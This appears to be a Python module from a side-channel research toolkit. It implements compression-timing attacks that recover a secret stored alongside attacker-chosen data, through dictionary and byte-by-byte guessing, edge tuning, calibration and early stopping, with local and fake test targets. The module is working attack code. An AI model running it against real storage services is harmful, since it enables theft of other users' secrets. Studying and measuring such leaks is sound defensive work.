"""Secret extraction by timing decompression: dictionary and bytewise attacks with early stopping."""

from __future__ import annotations

import csv
import enum
import json
import math
import random
import statistics
from dataclasses import dataclass, field, replace
from typing import Callable, Protocol, Sequence, TextIO

from .codecs import AcceptancePolicy, CodecId, CompressedBlob, compress, decoder, store_with_policy
from .fuzzer import Polarity
from .layout import BuiltLayout, LayoutConfig, build_layout
from .timing import Aggregator, TimingStats, now_ns, TIMING_TOKEN

DEFAULT_CHARSET = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
MAD_TO_SIGMA = 1.4826
MEDIAN_SE = 1.2533  # standard error of a median, in units of sigma/sqrt(n)


class AttackError(RuntimeError):
    pass


class CalibrationError(AttackError):
    def __init__(self, gap_ns: float, message: str = "probes are indistinguishable"):
        super().__init__(f"{message} (observed gap {gap_ns:.1f} ns)")
        self.gap_ns = gap_ns


class TransportError(AttackError):
    def __init__(self, message: str, transcript: "AttackTranscript | None" = None):
        super().__init__(message)
        self.transcript = transcript


class Mode(enum.Enum):
    DICTIONARY = "dictionary"
    BYTEWISE = "bytewise"


@dataclass(frozen=True)
class GuessCharset:
    symbols: bytes = DEFAULT_CHARSET

    def __post_init__(self):
        if not self.symbols:
            raise ValueError("charset is empty")
        if len(set(self.symbols)) != len(self.symbols):
            raise ValueError("charset has duplicate symbols")


@dataclass(frozen=True)
class AttackConfig:
    mode: Mode = Mode.DICTIONARY
    polarity: Polarity = Polarity.CORRECT_FASTEST
    reps_min: int = 25
    reps_max: int = 200
    layout: LayoutConfig | Sequence[LayoutConfig] | None = None
    shift_mode: bool = False
    statistic: Aggregator | None = None  # None: the target's preference
    z: float = 4.0
    top_k: int = 2
    branch_limit: int = 4
    seed: int = 0
    edge_search: int = 0  # bytewise: re-tune the run length within +-this many bytes per position
    edge_reps: int = 7

    def __post_init__(self):
        if not 1 <= self.reps_min <= self.reps_max:
            raise ValueError("need 1 <= reps_min <= reps_max")
        if self.polarity not in (Polarity.CORRECT_FASTEST, Polarity.CORRECT_SLOWEST):
            raise ValueError("attack polarity must be CORRECT_FASTEST or CORRECT_SLOWEST")
        if self.top_k < 1 or self.branch_limit < 1:
            raise ValueError("top_k and branch_limit must be >= 1")
        if self.edge_search < 0 or self.edge_reps < 1:
            raise ValueError("edge_search must be >= 0 and edge_reps >= 1")

    def layout_for(self, position: int) -> LayoutConfig:
        if self.layout is None:
            raise ValueError("attack needs a layout")
        if isinstance(self.layout, LayoutConfig):
            return self.layout
        layouts = list(self.layout)
        return layouts[min(position, len(layouts) - 1)]


class Target(Protocol):
    """Something that co-locates attacker data with a secret, stores it, and can be timed on fetch."""

    statistic: Aggregator

    def store(self, key: str, built: BuiltLayout) -> None:
        ...

    def fetch(self, key: str) -> int:
        """One timed fetch, in ns."""
        ...


class LocalTarget:
    """In-process victim: writes its prefix+secret into the attacker's layout, compresses, times decompression."""

    statistic = Aggregator.MIN

    def __init__(self, secret: bytes, codec: CodecId = CodecId.DEFLATE, level: int | None = None,
                 policy: AcceptancePolicy | None = None, prefix: bytes = b""):
        self.secret = bytes(secret)
        self.prefix = bytes(prefix)
        self.codec = codec
        self.level = level
        self.policy = policy
        self._blobs: dict[str, CompressedBlob] = {}
        self._fns: dict[str, Callable] = {}

    def compose(self, built: BuiltLayout) -> bytes:
        span = built.secret_span
        region = self.prefix + self.secret
        if len(region) != len(span):
            raise AttackError(f"secret span holds {len(span)} bytes, victim region is {len(region)}")
        return built.data[:span.start] + region + built.data[span.stop:]

    def store(self, key: str, built: BuiltLayout, level: int | None = None) -> CompressedBlob:
        data = self.compose(built)
        lvl = self.level if self.level is not None else (level if level is not None else 6)
        if self.policy is not None:
            blob = store_with_policy(self.policy, self.codec, lvl, data)
        else:
            blob = compress(self.codec, lvl, data)
        self._blobs[key] = blob
        self._fns[key] = decoder(blob)
        return blob

    def blob(self, key: str) -> CompressedBlob:
        return self._blobs[key]

    def fetch(self, key: str) -> int:
        fn = self._fns[key]
        with TIMING_TOKEN:
            t0 = now_ns()
            fn()
            return now_ns() - t0


class FakeTarget:
    """Deterministic target for tests: latency is a function of the stored bytes plus optional noise."""

    def __init__(self, latency: Callable[[bytes], float], noise: Callable[[random.Random], float] | None = None,
                 seed: int = 0, statistic: Aggregator = Aggregator.MEDIAN, secret: bytes = b"", prefix: bytes = b""):
        self.latency = latency
        self.noise = noise
        self.rng = random.Random(seed)
        self.statistic = statistic
        self.secret = secret
        self.prefix = prefix
        self.stored: dict[str, bytes] = {}
        self.requests = 0

    def store(self, key: str, built: BuiltLayout, level: int | None = None) -> None:
        span = built.secret_span
        region = self.prefix + self.secret
        if len(region) == len(span):
            data = built.data[:span.start] + region + built.data[span.stop:]
        else:
            data = built.data
        self.stored[key] = data

    def fetch(self, key: str) -> int:
        self.requests += 1
        base = self.latency(self.stored[key])
        extra = self.noise(self.rng) if self.noise else 0.0
        return int(round(base + extra))


@dataclass(frozen=True)
class Decision:
    position: int
    prefix: bytes
    symbol: bytes
    gap_ns: float
    significant: bool


@dataclass
class AttackTranscript:
    per_guess: dict[bytes, TimingStats] = field(default_factory=dict)
    decisions: list[Decision] = field(default_factory=list)
    recovered: bytes = b""
    requests_used: int = 0
    flags: set[str] = field(default_factory=set)
    candidates: list[bytes] = field(default_factory=list)
    polarity: Polarity = Polarity.CORRECT_FASTEST
    statistic: Aggregator = Aggregator.MIN
    positions: dict[bytes, int] = field(default_factory=dict)  # secret position each guess probed
    edges: dict[bytes, int] = field(default_factory=dict)  # tuned run length per branch prefix

    def to_dict(self) -> dict:
        return {
            "recovered": self.recovered.decode("latin-1"),
            "requests_used": self.requests_used,
            "flags": sorted(self.flags),
            "candidates": [c.decode("latin-1") for c in self.candidates],
            "polarity": self.polarity.name,
            "statistic": self.statistic.name,
            "edges": {k.decode("latin-1"): v for k, v in self.edges.items()},
            "decisions": [
                {"position": d.position, "prefix": d.prefix.decode("latin-1"), "symbol": d.symbol.decode("latin-1"),
                 "gap_ns": d.gap_ns, "significant": d.significant}
                for d in self.decisions
            ],
            "per_guess": {
                g.decode("latin-1"): {"n": s.n, "min_ns": s.min_ns, "median_ns": s.median_ns,
                                      "mean_ns": s.mean_ns, "stddev_pct": s.stddev_pct}
                for g, s in self.per_guess.items()
            },
        }

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), indent=2)

    def write_csv(self, out: TextIO) -> None:
        chosen = {(d.position, d.prefix + d.symbol) for d in self.decisions}
        w = csv.writer(out)
        w.writerow(["position", "symbol", "median_ns", "chosen"])
        for g, st in self.per_guess.items():
            pos = self.positions.get(g, 0)
            w.writerow([pos, g.decode("latin-1"), st.median_ns, int((pos, g) in chosen)])


def _stat(samples: Sequence[float], statistic: Aggregator) -> float:
    if statistic is Aggregator.MIN:
        return min(samples)
    if statistic is Aggregator.MEAN:
        return statistics.fmean(samples)
    return statistics.median(samples)


def _se(samples: Sequence[float]) -> float:
    """Robust standard error of the location statistic."""
    n = len(samples)
    if n < 2:
        return math.inf
    med = statistics.median(samples)
    mad = statistics.median(abs(x - med) for x in samples) * MAD_TO_SIGMA
    return MEDIAN_SE * mad / math.sqrt(n)


@dataclass(frozen=True)
class RoundResult:
    order: list[bytes]  # guesses ranked, most likely correct first
    values: dict[bytes, float]
    gap_ns: float
    significant: bool
    requests: int
    runner_up_separated: bool


def _rank(samples: dict[bytes, list[int]], polarity: Polarity, statistic: Aggregator, z: float) -> RoundResult:
    values = {g: float(_stat(s, statistic)) for g, s in samples.items()}
    sign = 1 if polarity is Polarity.CORRECT_FASTEST else -1
    order = sorted(values, key=lambda g: (sign * values[g], g))
    first, second = order[0], order[1]
    gap = abs(values[first] - values[second])

    def separated(a, b):
        d = abs(values[a] - values[b])
        noise = math.hypot(_se(samples[a]), _se(samples[b]))
        return sign * (values[b] - values[a]) > 0 and d > z * noise

    sig = separated(first, second)
    runner = len(order) > 2 and separated(second, order[2])
    return RoundResult(order, values, gap, sig, 0, runner)


def measure_guesses(target: Target, keys: dict[bytes, str], config: AttackConfig, rng: random.Random,
                    transcript: AttackTranscript, statistic: Aggregator) -> RoundResult:
    """Round-robin fetches in shuffled order until a clear winner emerges or reps_max is spent."""
    guesses = list(keys)
    samples: dict[bytes, list[int]] = {g: [] for g in guesses}
    result = None
    for rep in range(config.reps_max):
        order = guesses[:]
        rng.shuffle(order)
        for g in order:
            try:
                samples[g].append(target.fetch(keys[g]))
            except OSError as exc:
                raise TransportError(f"fetch failed: {exc}", transcript) from exc
            transcript.requests_used += 1
        if rep + 1 >= config.reps_min:
            result = _rank(samples, config.polarity, statistic, config.z)
            if result.significant:
                break
    for g, s in samples.items():
        transcript.per_guess[g] = TimingStats.from_samples(s)
    return result


def _store_all(target: Target, builds: dict[bytes, BuiltLayout], tag: str, level: int | None,
               transcript: AttackTranscript) -> dict[bytes, str]:
    keys = {}
    for i, (g, built) in enumerate(builds.items()):
        key = f"{tag}-{i}"
        try:
            target.store(key, built, level) if level is not None else target.store(key, built)
        except OSError as exc:
            raise TransportError(f"store failed: {exc}", transcript) from exc
        keys[g] = key
    return keys


def dictionary_attack(target: Target, guesses: Sequence[bytes], config: AttackConfig,
                      secret_len: int | None = None) -> AttackTranscript:
    guesses = [bytes(g) for g in guesses]
    if len(guesses) < 2:
        raise ValueError("need at least two guesses")
    if len(set(guesses)) != len(guesses):
        raise ValueError("duplicate guesses")
    layout = config.layout_for(0)
    n = secret_len or max(len(g) for g in guesses)
    statistic = config.statistic or target.statistic
    rng = random.Random(config.seed)
    tr = AttackTranscript(polarity=config.polarity, statistic=statistic)
    placeholder = b"\x00" * n
    builds = {g: build_layout(layout, placeholder, g) for g in guesses}
    keys = _store_all(target, builds, "dict", layout.compression_level, tr)
    tr.positions = dict.fromkeys(guesses, 0)
    res = measure_guesses(target, keys, config, rng, tr, statistic)
    best = res.order[0]
    tr.decisions.append(Decision(0, b"", best, res.gap_ns, res.significant))
    tr.recovered = best
    tr.candidates = [best]
    if not res.significant:
        tr.flags.add("UNDECIDED")
    return tr


def _probe(target: Target, builds: dict[bytes, BuiltLayout], tag: str, level: int, reps: int,
           rng: random.Random, tr: AttackTranscript, statistic: Aggregator) -> dict[bytes, float]:
    keys = _store_all(target, builds, tag, level, tr)
    samples: dict[bytes, list[int]] = {g: [] for g in keys}
    for _ in range(reps):
        order = list(keys)
        rng.shuffle(order)
        for g in order:
            try:
                samples[g].append(target.fetch(keys[g]))
            except OSError as exc:
                raise TransportError(f"fetch failed: {exc}", tr) from exc
            tr.requests_used += 1
    return {g: _stat(s, statistic) for g, s in samples.items()}


def _tune_edge(target: Target, layout: LayoutConfig, make: Callable[[LayoutConfig], dict[bytes, BuiltLayout]],
               config: AttackConfig, rng: random.Random, tr: AttackTranscript, statistic: Aggregator,
               tag: str) -> LayoutConfig | None:
    """Shortest run length at which some guess gets stored compressed.

    A store policy that keeps only well-compressing values splits guesses by
    a byte or two of compressed size. Growing the constant run moves every
    guess toward acceptance, so the guess that compresses best (the correct
    one) crosses first. Compressed and raw values fetch at visibly different
    speeds, which is all the search needs. None when the two sides of the
    bracket are not distinguishable.
    """
    def at(p: int) -> dict[bytes, float]:
        lay = replace(layout, prepend_compressible_len=p)
        return _probe(target, make(lay), f"{tag}-e", lay.compression_level, config.edge_reps, rng, tr, statistic)

    span = config.edge_search
    lo = max(0, layout.prepend_compressible_len - span)
    hi = layout.prepend_compressible_len + span
    low, high = at(lo), at(hi)
    raw, packed = statistics.median(low.values()), statistics.median(high.values())
    spread = max(_iqr(low.values()), _iqr(high.values()))
    if abs(packed - raw) <= 4 * spread:
        return None
    mid = (raw + packed) / 2
    sign = 1 if packed > raw else -1
    if any(sign * (v - mid) > 0 for v in low.values()):
        return None  # already past the edge at the low end
    while hi - lo > 1:
        m = (lo + hi) // 2
        if any(sign * (v - mid) > 0 for v in at(m).values()):
            hi = m
        else:
            lo = m
    return replace(layout, prepend_compressible_len=hi)


def _iqr(values) -> float:
    q = statistics.quantiles(list(values), n=4)
    return q[2] - q[0]


@dataclass
class _Branch:
    recovered: bytes
    score: float


def bytewise_attack(target: Target, known_prefix: bytes, charset: GuessCharset, secret_len: int,
                    config: AttackConfig) -> AttackTranscript:
    """Recover ``secret_len`` bytes after ``known_prefix`` one symbol at a time.

    Each live branch tries every symbol; a clear winner extends the branch,
    otherwise the top ``top_k`` symbols survive (AMBIGUOUS). Branches whose
    next position shows no clear winner are dropped when another branch has
    one, and at most ``branch_limit`` branches are kept.
    """
    known_prefix = bytes(known_prefix)
    statistic = config.statistic or target.statistic
    tr = AttackTranscript(polarity=config.polarity, statistic=statistic)
    if secret_len == 0:
        return tr
    if len(known_prefix) < 3:
        raise ValueError("bytewise leakage needs a known prefix of at least 3 bytes")
    rng = random.Random(config.seed)
    branches = [_Branch(b"", math.inf)]

    def make(layout: LayoutConfig, recovered: bytes) -> dict[bytes, BuiltLayout]:
        builds = {}
        known = known_prefix + recovered
        for c in charset.symbols:
            sym = bytes([c])
            if config.shift_mode:
                window = known[-len(known_prefix):] + sym
                placeholder = b"\x00" * (len(known_prefix) + secret_len)
                builds[recovered + sym] = build_layout(layout, placeholder, window)
            else:
                builds[recovered + sym] = build_layout(layout, b"\x00" * secret_len, recovered + sym)
        return builds

    for pos in range(secret_len):
        layout = config.layout_for(pos)
        children: list[tuple[_Branch, bool]] = []
        for bi, br in enumerate(branches):
            tag = f"b{pos}-{bi}"
            lay = layout
            if config.edge_search:
                lay = _tune_edge(target, layout, lambda l: make(l, br.recovered), config, rng, tr, statistic, tag)
                if lay is None:
                    tr.flags.add(f"NO_EDGE@{pos}")
                    lay = layout
                else:
                    tr.edges[br.recovered] = lay.prepend_compressible_len
            builds = make(lay, br.recovered)
            keys = _store_all(target, builds, tag, lay.compression_level, tr)
            tr.positions.update(dict.fromkeys(builds, pos))
            res = measure_guesses(target, keys, config, rng, tr, statistic)
            top = res.order[0]
            tr.decisions.append(Decision(pos, br.recovered, top[-1:], res.gap_ns, res.significant))
            if res.significant:
                children.append((_Branch(top, res.gap_ns), True))
                if res.runner_up_separated and config.top_k > 1:
                    # two outliers: one may be a false positive, settle it next position
                    children.append((_Branch(res.order[1], res.gap_ns / 2), False))
            else:
                tr.flags.add(f"AMBIGUOUS@{pos}")
                for g in res.order[:config.top_k]:
                    children.append((_Branch(g, 0.0), False))
        decided_parents = {d.prefix for d in tr.decisions if d.position == pos and d.significant}
        if decided_parents and len(branches) > 1:
            # branches that produced no clear winner at this position were false positives
            children = [(b, s) for b, s in children if b.recovered[:-1] in decided_parents]
        children.sort(key=lambda bs: (not bs[1], -bs[0].score, bs[0].recovered))
        branches = [b for b, _ in children[:config.branch_limit]]
    tr.candidates = [b.recovered for b in branches]
    tr.recovered = branches[0].recovered
    return tr


# -- early stopping ---------------------------------------------------------


class BitDecision(enum.Enum):
    LOW = "low"
    HIGH = "high"
    UNDECIDED = "undecided"


@dataclass(frozen=True)
class Classification:
    decision: BitDecision
    requests: int
    early: bool  # False means the reps_max majority vote decided


@dataclass(frozen=True)
class Calibration:
    low_region: tuple[float, float]
    high_region: tuple[float, float]
    gap_ns: float
    low_is_correct: bool = True

    def __iter__(self):
        return iter((self.low_region, self.high_region))

    @property
    def threshold(self) -> float:
        return (self.low_region[1] + self.high_region[0]) / 2


def _check_regions(low_region, high_region) -> None:
    if low_region is None or high_region is None:
        raise ValueError("uncalibrated regions")
    if not (low_region[0] <= low_region[1] < high_region[0] <= high_region[1]):
        raise ValueError("regions must be ordered low < high with a critical section between them")


def early_stop_classify(samples, low_region, high_region, reps_min: int = 25, reps_max: int = 200) -> Classification:
    """Decide LOW/HIGH from a stream of latencies.

    From ``reps_min`` samples on, the running median deciding below the low
    region's upper bound (or above the high region's lower bound) stops early.
    Otherwise, at ``reps_max``, each sample votes by the midpoint of the
    critical section and the majority wins.
    """
    _check_regions(low_region, high_region)
    if not 1 <= reps_min <= reps_max:
        raise ValueError("need 1 <= reps_min <= reps_max")
    lo_up, hi_lo = low_region[1], high_region[0]
    mid = (lo_up + hi_lo) / 2
    seen: list[float] = []
    it = iter(samples)
    for x in it:
        seen.append(x)
        n = len(seen)
        if n >= reps_min:
            m = statistics.median(seen)
            if m < lo_up:
                return Classification(BitDecision.LOW, n, True)
            if m > hi_lo:
                return Classification(BitDecision.HIGH, n, True)
        if n >= reps_max:
            break
    return majority(seen, mid)


def majority(samples: Sequence[float], threshold: float) -> Classification:
    low = sum(1 for x in samples if x < threshold)
    high = len(samples) - low
    if low > high:
        d = BitDecision.LOW
    elif high > low:
        d = BitDecision.HIGH
    else:
        d = BitDecision.UNDECIDED
    return Classification(d, len(samples), False)


def regions_from_samples(low: Sequence[float], high: Sequence[float], reps_min: int = 25,
                         z: float = 3.0, margin_sigmas: float = 5.0) -> Calibration:
    """Regions for early stopping from labelled samples.

    The critical section is centred between the two medians and wide enough
    that a running median over ``reps_min`` samples from the other class
    crosses a bound with probability below ``margin_sigmas`` standard errors.
    """
    if len(low) < 2 or len(high) < 2:
        raise ValueError("need at least two samples per class")
    m_lo, m_hi = statistics.median(low), statistics.median(high)
    gap = m_hi - m_lo
    noise = math.hypot(_se(low), _se(high))
    if not gap > z * noise or gap <= 0:
        raise CalibrationError(gap)
    sigma = max(_se(low) * math.sqrt(len(low)), _se(high) * math.sqrt(len(high))) / MEDIAN_SE
    se_min = MEDIAN_SE * sigma / math.sqrt(reps_min)
    half = max(gap / 4, min(margin_sigmas * se_min - gap / 2, gap / 2 - 1e-9))
    # never let the bounds reach past either median
    half = min(half, gap / 2 - 1e-9) if gap / 2 > 1e-9 else 0
    mid = (m_lo + m_hi) / 2
    lo_up, hi_lo = mid - half, mid + half
    if not lo_up < hi_lo:
        lo_up, hi_lo = mid - gap / 4, mid + gap / 4
    return Calibration((min(min(low), lo_up), lo_up), (hi_lo, max(max(high), hi_lo)), gap)


def subsample_min(samples: Sequence[float], n: int) -> list[float]:
    """Min of each consecutive block of ``n`` samples."""
    if n <= 1:
        return list(samples)
    return [min(samples[i:i + n]) for i in range(0, len(samples) - n + 1, n)]


def calibrate(target: Target, layout: LayoutConfig, known_correct: bytes, known_incorrect: bytes, reps: int,
              secret_len: int | None = None, subsample: int = 1, reps_min: int = 25, seed: int = 0,
              builder: Callable[[bytes], BuiltLayout] | None = None) -> Calibration:
    """Empirical latency regions for a correct and an incorrect probe."""
    n = secret_len or len(known_correct)
    if builder is None:
        def builder(g):
            return build_layout(layout, b"\x00" * n, g)
    target.store("cal-correct", builder(known_correct))
    target.store("cal-incorrect", builder(known_incorrect))
    rng = random.Random(seed)
    sc, si = [], []
    for _ in range(reps):
        pair = [("cal-correct", sc), ("cal-incorrect", si)]
        rng.shuffle(pair)
        for key, acc in pair:
            acc.append(target.fetch(key))
    sc, si = subsample_min(sc, subsample), subsample_min(si, subsample)
    if statistics.median(sc) <= statistics.median(si):
        cal = regions_from_samples(sc, si, reps_min)
        return cal
    cal = regions_from_samples(si, sc, reps_min)
    return Calibration(cal.low_region, cal.high_region, cal.gap_ns, low_is_correct=False)
